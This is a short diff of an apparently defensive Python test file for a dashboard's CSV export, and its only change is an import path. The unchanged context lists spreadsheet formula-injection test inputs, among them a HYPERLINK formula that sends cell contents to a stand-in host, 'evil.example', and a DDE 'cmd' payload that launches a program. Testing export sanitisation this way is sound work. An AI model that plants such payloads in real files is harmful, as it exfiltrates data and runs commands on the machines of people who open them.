@@ -9,7 +9,7 @@ import pytest
 
 from dashboard import export_cells
 from layouts.review import DEPARTMENT_COLUMNS, department_csv
-from tests.conftest import PROJECT
+from tests.support import PROJECT
 
 FORMULA_LIKE = (
     "=1+1", '=HYPERLINK("http://evil.example/?q="&A1,"详情")', "+1+1", "-1+1", "-cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\tplain",
